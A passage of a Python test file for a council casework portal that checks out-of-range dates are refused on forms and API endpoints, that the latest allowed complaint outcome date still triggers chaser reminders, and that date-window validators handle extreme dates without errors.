    for who, form_url, form, api_url, body, field, values in _date_cases(worlds):
        client.force_login(who)
        key = "quarter" if isinstance(field, tuple) else field
        for value, message in values.items():
            page, _ = run_rolled_back(
                Call("POST", form_url, form | _form_value(form_url, field, value)), client
            )
            api_value = {"year": value} if isinstance(field, tuple) else {field: value}
            answer, _ = run_rolled_back(Call("POST", api_url, body | api_value, api=True), client)
            if message is None:
                _accepted(page)
                _accepted(answer)
                accepted += 2
            else:
                _refused(page, key, message, api=False)
                _refused(answer, key, message, api=True)
                refused += 2
    assert refused >= 40, refused
    with capsys.disabled():
        print(
            f"\n[bad input] dates: {refused} out-of-window dates refused with GOV.UK messages, "
            f"{accepted} at the edges accepted, over every form and endpoint that takes one"
        )


def test_the_latest_outcome_date_accepted_is_still_chased(frozen_world):
    """No date a form accepts stops a clock: a complaint given the latest outcome date
    allowed is chased at that date's rungs (a date in 9999 never was)."""
    from datetime import date, timedelta

    from complaints import services
    from protocol_portal.casework.chasers import chasers_fire, rung_moment
    from protocol_portal.casework.registry import spec_for
    from protocol_portal.casework.services import ladder_for

    world = frozen_world("complaints")
    complaint = world.cases["received"]
    latest = date(2026, 6, 2)
    services.complaint_acknowledge(
        complaint=complaint,
        actor=world.people["handler"],
        intent="needs_time",
        message="We are looking into it.",
        outcome_due_on=latest,
        as_of=AS_OF,
    )
    complaint.refresh_from_db()
    assert complaint.due_on == latest
    assert complaint.next_action_at is not None
    ladder = ladder_for(council=complaint.council, case_type=complaint.CASE_TYPE)
    last = rung_moment(complaint, ladder[-1])
    assert last - AS_OF < timedelta(days=120)
    fired = chasers_fire(spec=spec_for("complaints.Complaint"), pks=[complaint.pk], as_of=last)
    assert fired == {complaint.pk: ladder[-1].key}


def test_a_date_window_answers_any_date_without_raising():
    from datetime import date

    from protocol_portal.casework import bounds

    windows = [
        bounds.COMPLAINT_OUTCOME_DUE,
        bounds.RELATIONSHIP_SINCE,
        bounds.GIFT_RECEIVED,
        bounds.BECAME_AWARE,
        bounds.ACTING_AGAINST_START,
        bounds.MEETING_DATE,
    ]
    today = date(2026, 3, 2)
    for window in windows:
        assert window.error(date.max, today)
        assert window.error(date.min, today)
        assert window.error(today, today) is None
        assert window.error(None, today) is None
